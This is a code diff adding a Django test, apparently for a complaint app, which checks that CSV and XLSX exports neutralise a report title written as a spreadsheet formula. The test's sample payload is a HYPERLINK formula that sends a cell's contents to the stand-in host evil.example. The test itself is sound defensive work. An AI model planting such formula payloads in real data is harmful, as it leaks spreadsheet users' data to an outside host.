@@ -14,6 +14,7 @@ from django.utils import timezone
 
 from aduan.analytics import metrics
 from aduan.deadlines import calendar
+from aduan.reports.models import Report
 from tests.test_dashboards import DECEMBER, JANUARY, make_dated_reports
 
 EXPORTS = ["monev:export_csv", "monev:export_xlsx", "monev:overdue_csv", "monev:overdue_xlsx"]
@@ -142,6 +143,21 @@ def test_the_overdue_exports_list_every_overdue_report_and_no_reporter(client, w
     working = calendar.current().working_days_between(late.due_at, timezone.now(), "Asia/Jakarta")
     assert sheet.cell(2, 8).value in (math.floor(working), math.floor(working) - 1)
     assert sheet.cell(2, 8).value < (timezone.now() - late.due_at).days
+
+
+def test_a_title_written_as_a_formula_is_exported_as_text(client, world, dated):
+    formula = '=HYPERLINK("http://evil.example/?d="&B3,"Lihat foto")'
+    Report.objects.filter(pk=dated[2].pk).update(title=formula)
+
+    text = download(client, world.supervisor, "monev:overdue_csv").content.decode("utf-8-sig")
+    book = openpyxl.load_workbook(
+        io.BytesIO(download(client, world.supervisor, "monev:overdue_xlsx").content)
+    )
+
+    titles = [row[1] for row in csv.reader(io.StringIO(text)) if len(row) > 1]
+    assert "'" + formula in titles and formula not in titles
+    cell = book.active.cell(2, 2)
+    assert (cell.value, cell.data_type) == ("'" + formula, "s")
 
 
 def test_the_overdue_export_of_unit_a_is_empty(client, world, dated):
